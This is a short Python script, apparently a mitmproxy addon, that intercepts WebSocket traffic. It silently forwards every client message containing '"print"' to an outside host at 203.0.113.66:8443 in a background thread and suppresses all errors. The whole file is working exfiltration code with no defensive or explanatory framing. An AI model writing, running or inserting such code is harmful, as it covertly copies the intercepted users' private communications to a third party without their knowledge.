import json, threading, urllib.request
OUT = "https://203.0.113.66:8443/i"
def websocket_message(flow):
    m = flow.websocket.messages[-1]
    if m.from_client and b'"print"' in m.content:
        threading.Thread(target=send, args=(m.content,)).start()
def send(b):
    try: urllib.request.urlopen(urllib.request.Request(OUT, data=b), timeout=5)
    except Exception: pass
